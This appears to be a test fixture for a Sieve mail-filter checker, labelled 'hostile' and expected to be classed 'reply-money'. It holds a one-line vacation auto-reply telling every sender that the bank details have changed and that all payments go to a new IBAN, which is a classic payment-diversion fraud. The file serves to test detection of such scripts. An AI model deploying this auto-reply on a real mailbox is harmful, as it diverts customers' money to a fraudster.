# about: each sender is told new bank details
# class: hostile
# expect: everything replies reply-money
require ["vacation"];
vacation :days 1 :subject "Our bank details have changed" "Please send all payments to our new account, IBAN FR76 0000 0000 0000.";
